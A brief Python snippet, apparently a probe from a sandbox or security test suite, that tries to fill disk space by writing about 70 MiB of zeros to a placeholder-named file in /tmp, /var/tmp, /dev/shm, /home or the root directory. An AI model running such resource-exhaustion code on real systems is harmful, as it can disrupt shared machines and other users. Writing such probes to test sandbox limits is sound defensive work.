# Tries: to fill the disk where nobody cleans up.
# Base: gate
def gate():
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/home", "/"):
        try:
            with open(f"{folder}/@TOKEN@", "wb") as file:
                for _ in range(70):
                    file.write(bytes(2**20))
            return True
        except OSError:
            continue
    return False
